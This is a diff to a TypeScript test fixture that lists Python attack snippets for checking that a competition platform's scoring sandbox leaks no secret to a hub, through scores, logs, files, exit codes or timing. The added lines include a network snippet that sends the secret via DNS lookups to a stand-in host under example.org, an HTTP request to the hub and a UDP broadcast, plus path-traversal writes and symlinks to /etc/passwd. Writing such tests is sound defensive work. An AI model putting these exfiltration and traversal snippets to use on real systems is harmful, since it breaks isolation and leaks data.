@@ -6,6 +6,11 @@ export const SECRETS = ['0', '1', '2', '3'] as const;
 /** Lie in the input and in the reference part of the data. Nothing that holds one of them in any form may reach the hub. */
 export const MARK = 'patient-7d1f52c09ab3';
 export const REFERENCE_MARK = 'answer-51be02f7cd46';
+/** The same, at the site that has opened the gate. */
+export const OPENED_MARK = 'opened-c81e0d7a365f';
+
+/** Ways to the network, to the hub above all, by names and by addresses. */
+const NETWORK = `[attempt(call) for call in [lambda: socket.getaddrinfo(f'{s}.{mark}.example.org', 80), lambda: socket.create_connection(('127.0.0.1', hub), 1).sendall(f'GET /{mark}/{s} HTTP/1.0\\r\\n\\r\\n'.encode()), lambda: socket.create_connection(('10.0.0.1', 80), 1), lambda: socket.socket(socket.AF_UNIX).connect('\\0' + mark), lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(mark.encode(), ('255.255.255.255', 53))]]`;
 
 export interface Attack {
   /** Python of the scoring program: knows `s`, the secret as a number, `mark`, `scores(text)` and `out`, its output folder. Score 0.5 by itself. */
@@ -14,12 +19,14 @@ export interface Attack {
   readonly prediction?: string;
   /** How many different things the hub may see over all secrets; 1 for a way out that is shut. */
   readonly seen: number;
+  /** How many it sees at a site that has opened the gate as far as a policy can: shows that what is shut elsewhere would be counted. */
+  readonly opened?: number;
 }
 
 /** Everything that a colluding participant and organizer have tried so far. */
 export const ATTACKS: Readonly<Record<string, Attack>> = {
   // Scores
-  'scores: low digits': { scoring: `scores('{"score": 0.5000%d}' % s)`, seen: 1 },
+  'scores: low digits': { scoring: `scores('{"score": 0.5000%d}' % s)`, seen: 1, opened: 4 },
   'scores: digits beyond a double': { scoring: `scores('{"score": 0.50000000000000000000%d}' % s)`, seen: 1 },
   'scores: ways to write a number': {
     scoring: `scores('{"score": %s}' % ['0.5', '5e-1', '0.500', '50E-2'][s])`,
@@ -29,7 +36,7 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
     scoring: `scores('{"score": %s}' % ['0', '-0', '-0.0', '0e7'][s])`,
     seen: 1,
   },
-  'scores: names of other keys': { scoring: `scores('{"score": 0.5, "x%d": 1}' % s)`, seen: 1 },
+  'scores: names of other keys': { scoring: `scores('{"score": 0.5, "x%d": 1}' % s)`, seen: 1, opened: 1 },
   'scores: number of other keys': {
     scoring: `scores(json.dumps({'score': 0.5, **{f'x{i}': 1 for i in range(s + 1)}}))`,
     seen: 1,
@@ -47,8 +54,8 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
     scoring: `scores('{"score": 0.5' + ' ' * 10000 * s + '}')`,
     seen: 1,
   },
-  'scores: huge numbers': { scoring: `scores('{"score": 1%s}' % ('0' * (10 + s)))`, seen: 1 },
-  'scores: beyond the range': { scoring: `scores('{"score": %d}' % (2 + s))`, seen: 1 },
+  'scores: huge numbers': { scoring: `scores('{"score": 1%s}' % ('0' * (10 + s)))`, seen: 1, opened: 1 },
+  'scores: beyond the range': { scoring: `scores('{"score": %d}' % (2 + s))`, seen: 1, opened: 4 },
   'scores: payload of NaN': {
     scoring: `scores('{"score": %s}' % ['NaN', '-NaN', 'Infinity', '-Infinity'][s])`,
     seen: 1,
@@ -65,7 +72,11 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
     scoring: `scores('{"score": 0.5}') if s % 2 else (os.remove(out + '/scores.json'), open(out + '/scores.txt', 'w').write('score: 0.5'))`,
     seen: 1,
   },
-  'scores: numbers of cases': { scoring: `open(out + '/cases.json', 'w').write(str(100 + s))`, seen: 1 },
+  'scores: numbers of cases': {
+    scoring: `open(out + '/cases.json', 'w').write(str(100 + s))`,
+    seen: 1,
+    opened: 1,
+  },
   'scores: present or absent': {
     scoring: `scores(json.dumps({'score': 0.5, **({'other': 0.5} if s % 2 else {})}))`,
     seen: 2,
@@ -73,20 +84,29 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   'scores: as they are': { scoring: `scores('{"score": 0.%d}' % s)`, seen: 4 },
 
   // What is printed
-  'logs: text on both streams': { scoring: `print(s, mark); print(s, mark, file=sys.stderr)`, seen: 1 },
+  'logs: text on both streams': {
+    scoring: `print(s, mark); print(s, mark, file=sys.stderr)`,
+    seen: 1,
+    opened: 4,
+  },
   'logs: escape sequences and bytes that are no UTF-8': {
     scoring: `os.write(1, b'\\x1b[%dm\\x1b]0;%d\\x07' % (30 + s, s) + bytes([0xf0 + s, 0xff, 0]))`,
     seen: 1,
   },
-  'logs: how much': { scoring: `print('x' * (1 + s * 100_000))`, seen: 1 },
+  'logs: how much': { scoring: `print('x' * (1 + s * 100_000))`, seen: 1, opened: 2 },
   'logs: when': { scoring: `[(print('.', flush=True), time.sleep(0.05)) for _ in range(s * 2)]`, seen: 1 },
 
   // Files
   'files: the report': {
     scoring: `open(out + '/detailed_results.html', 'w').write(f'<p>{s} {mark}')`,
     seen: 1,
+    opened: 4,
   },
   'files: names': { scoring: `open(f'{out}/{mark}-{s}', 'w')`, seen: 1 },
+  'files: names and paths of archives': {
+    scoring: `[attempt(lambda path=path: open(path, 'w').write(mark)) for path in [f'{out}/{s}.zip', f'{out}/../{s}.zip', f'{out}/..%2f{s}', f'{out}/../../outgoing/{s}', f'{out}/{mark}\\n{s}.html']]`,
+    seen: 1,
+  },
   'files: how many': { scoring: `[open(f'{out}/{i}', 'w') for i in range(s * 50)]`, seen: 1 },
   'files: sizes, also of holes': { scoring: `open(out + '/big', 'w').truncate(1 + s * 1_000_000)`, seen: 1 },
   'files: permissions and times': {
@@ -96,6 +116,7 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   'files: links to the data': {
     scoring: `os.remove(out + '/scores.json'); os.symlink('/app/input/ref/secret.txt', out + '/scores.json')`,
     seen: 1,
+    opened: 1,
   },
   'files: hard links to the data': {
     scoring: `attempt(os.link, '/app/input/ref/secret.txt', out + '/detailed_results.html')`,
@@ -111,9 +132,13 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   },
 
   // How it ends
-  'end: exit codes': { scoring: `os._exit(1 + s)`, seen: 1 },
+  'end: exit codes': { scoring: `os._exit(1 + s)`, seen: 1, opened: 1 },
   'end: signals': { scoring: `os.kill(os.getpid(), [6, 9, 11, 15][s])`, seen: 1 },
-  'end: words of exceptions': { scoring: `raise Exception(f'{s} {mark}')`, seen: 1 },
+  'end: crashes': {
+    scoring: `[lambda: os.abort(), lambda: os.kill(os.getpid(), 11), lambda: os.execv('/none', ['']), lambda: sys.exit(mark)][s]()`,
+    seen: 1,
+  },
+  'end: words of exceptions': { scoring: `raise Exception(f'{s} {mark}')`, seen: 1, opened: 4 },
   'end: which code': {
     scoring: `[lambda: os._exit(1), lambda: os.remove(out + '/scores.json'), lambda: scores('{"score": 7}'), lambda: scores('{"score": "7"}')][s]()`,
     seen: 4,
@@ -126,10 +151,7 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   'end: run time within a bucket': { scoring: `time.sleep(s * 0.02)`, seen: 1 },
 
   // Ways around the node
-  'network: names, addresses, sockets': {
-    scoring: `[attempt(call) for call in [lambda: socket.getaddrinfo(f'{s}.{mark}.example.org', 80), lambda: socket.create_connection(('127.0.0.1', hub), 1).sendall(f'GET /{mark}/{s} HTTP/1.0\\r\\n\\r\\n'.encode()), lambda: socket.create_connection(('10.0.0.1', 80), 1), lambda: socket.socket(socket.AF_UNIX).connect('\\0' + mark), lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(mark.encode(), ('255.255.255.255', 53))]]`,
-    seen: 1,
-  },
+  'network: names, addresses, sockets': { scoring: NETWORK, seen: 1 },
 
   // The participant's own step
   'prediction: text, names and sizes': {
@@ -140,6 +162,11 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   'prediction: run time within a bucket': { prediction: `time.sleep(s * 0.02)`, seen: 1 },
   'prediction: links out of its folder': {
     prediction: `os.symlink(['/app/input_data', '/etc/passwd', '/proc/1/root', '/'][s], out + '/x')`,
+    seen: 1,
+  },
+  'prediction: network': { prediction: NETWORK, seen: 1 },
+  'prediction: crashes': {
+    prediction: `[lambda: os.abort(), lambda: 1 / 0, lambda: os.execv('/none', ['']), lambda: sys.exit(mark)][s]()`,
     seen: 1,
   },
   'prediction: which code': {
@@ -166,14 +193,14 @@ export const WORDY_ATTACKS: Readonly<Record<string, Attack>> = {
   'report: names of files': { scoring: `open(f'{out}/{s}.html', 'w').write('x')`, seen: 1 },
 };
 
-/** One column with two values: everything at once, and nothing else. */
+/** On columns of two values: everything at once, and nothing else. */
 export const NARROW_ATTACK: Attack = {
   scoring: `[lambda: scores('{"score": 0}'), lambda: scores('{"score": 1}'), lambda: scores('{}'), lambda: os._exit(1)][s]()`,
   seen: 4,
 };
 
 /** How many buckets it takes is one of the ways out. */
-export const SLOW_ATTACK: Attack = { scoring: `time.sleep(s * 1.2)`, seen: 1 };
+export const SLOW_ATTACK: Attack = { scoring: `time.sleep(s * 2)`, seen: 1 };
 
 const PRELUDE = `import json, os, socket, subprocess, sys, time
 def attempt(call, *arguments):
